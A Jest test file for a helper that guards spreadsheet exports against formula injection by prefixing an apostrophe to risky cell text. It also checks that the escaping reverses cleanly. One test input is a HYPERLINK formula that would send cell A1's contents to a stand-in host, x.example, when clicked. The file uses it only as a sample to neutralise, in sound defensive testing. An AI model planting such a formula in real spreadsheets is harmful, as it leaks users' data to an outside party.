import { fromSpreadsheetSafe, spreadsheetSafe } from './spreadsheet-safe';

describe('spreadsheet-safe text', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', `'=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")`],
    ['+84 252 3822 000', "'+84 252 3822 000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('neutralises %j', (text, expected) => {
    expect(spreadsheetSafe(text)).toBe(expected);
    expect(fromSpreadsheetSafe(spreadsheetSafe(text))).toBe(text);
  });

  it.each(['Sở Giáo dục và Đào tạo', 'BTH.SGDDT', '', "'đã có dấu nháy", 'a=b', ' =trắng đầu dòng'])(
    'leaves %j as it is',
    (text) => {
      expect(spreadsheetSafe(text)).toBe(text);
      expect(fromSpreadsheetSafe(text)).toBe(text);
    },
  );
});
